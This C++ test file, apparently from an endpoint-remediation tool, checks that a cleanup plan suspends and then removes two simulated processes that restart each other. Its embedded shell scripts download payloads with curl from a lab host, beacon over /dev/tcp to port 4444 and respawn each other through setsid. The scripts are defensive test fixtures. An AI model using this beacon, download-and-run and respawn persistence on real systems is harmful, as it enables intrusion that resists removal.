// SPDX-License-Identifier: GPL-3.0-or-later
// S6: two that start each other again.
#include "core/mitigation/suspects.h"
#include "core/sensor/linux/proc_reader.h"
#include "tests/remediation_scenarios/clean_up.h"
#include "tests/trace_scenarios/scenes.h"

#include <csignal>

using namespace metsuke;
using namespace metsuke::test;
using endpoint::EntryVector;
using plan::Action;

namespace {

/// Calls home, and starts the other one again where that has ended, as nobody's child. It tells its number in NAME.pid.
constexpr const char* kWatchdog = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT/home" || exit 1
trap '' PIPE
me=${0##*/}
other=$([ "$me" = first ] && echo second || echo first)
pidOf() { pid=; read -r pid < "$1.pid"; } 2>/dev/null
isAlive() { local stat=; read -r stat < "/proc/$1/stat" && [[ $stat != *") Z "* ]]; } 2>/dev/null
exec 3<>/dev/tcp/10.78.0.2/4444 || exit 1
echo $$ > "$me.new"
mv "$me.new" "$me.pid"
while [ "$SECONDS" -lt 60 ]; do
    pidOf "$other"
    before=$pid
    if [ -z "$before" ] || ! isAlive "$before"; then
        ( setsid "./$other" >/dev/null 2>&1 </dev/null 3>&- & )
        while pidOf "$other"; [ "$pid" = "$before" ] && [ "$SECONDS" -lt 60 ]; do read -r -t 0.02 -u 3; done
    fi
    echo METSUKE-SIM >&3
    read -r -t 0.3 -u 3
done
)sh";

/// Fetches both, and starts one of them.
constexpr const char* kPairScript = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
for name in first second; do
    curl -s -o home/$name http://10.78.0.2:8080/watchdog
    chmod +x home/$name
done
setsid home/first >/dev/null 2>&1 </dev/null &
exit 0
)sh";

/// The process with this number is among what has to go, as the script that it became by now.
bool blames(const endpoint::Trace& trace, const std::string& pid, const std::string& script) {
    return std::ranges::any_of(trace.blast, [&](size_t node) {
        const auto* started = mitigation::recordOf<endpoint::ProcessStarted>(trace.nodes[node]);
        return started != nullptr && started->pid == std::stoi(pid) && trace.nodes[node].label == script;
    });
}

} // namespace

TEST_P(CleanUp, S6_twoThatStartEachOtherAgain_surviveANaiveKill_andNotThePlan) {
    far->serveFiles(kWebPort, {{"/watchdog", {kWatchdog}}});
    far->takeStreams(kBeaconPort);
    place("dropper.sh", kPairScript);
    begin();
    happen("./dropper.sh");
    const auto pid = [this](const std::string& name) { return readFile(path("home/" + name + ".pid")); };
    ASSERT_TRUE(eventually([&] { return !pid("first").empty() && !pid("second").empty(); }));
    for (const std::string name : {"first", "second"}) { // the negative control
        const std::string before = pid(name);
        ASSERT_EQ(::kill(std::stoi(before), SIGKILL), 0);
        ASSERT_TRUE(eventually([&] { return pid(name) != before; })) << name << " is not started again";
    }
    ASSERT_TRUE(eventually([&] { return far->visits(kBeaconPort).size() >= 4; })) << "each called home, and was started again";
    const Question seen = beacon(); // whose process has ended since
    const std::string first = pid("first"), second = pid("second");
    const endpoint::Trace cause = causeOf(seen,
        [&](const endpoint::Trace& trace) { return blames(trace, first, path("home/first")) && blames(trace, second, path("home/second")); });
    EXPECT_EQ(cause.entry, EntryVector::Download);
    const plan::Plan plan = cleanAndUndo(seen, {Action::SuspendProcess, Action::QuarantineFile, Action::KillProcess});
    const auto isFrozenBefore = [](const plan::Step& step) { return step.action == Action::SuspendProcess; };
    EXPECT_TRUE(isFrozenBefore(*std::ranges::find_if(plan.steps, [](const plan::Step& step) {
        return step.action == Action::SuspendProcess || step.action == Action::KillProcess;
    })));
    for (const auto& [name, last] : {std::pair("first", first), std::pair("second", second)}) {
        EXPECT_EQ(pid(name), last) << name << " was started again";
        EXPECT_FALSE(sensor::ProcReader().image(std::stoi(last))) << name << " is there still";
    }
}
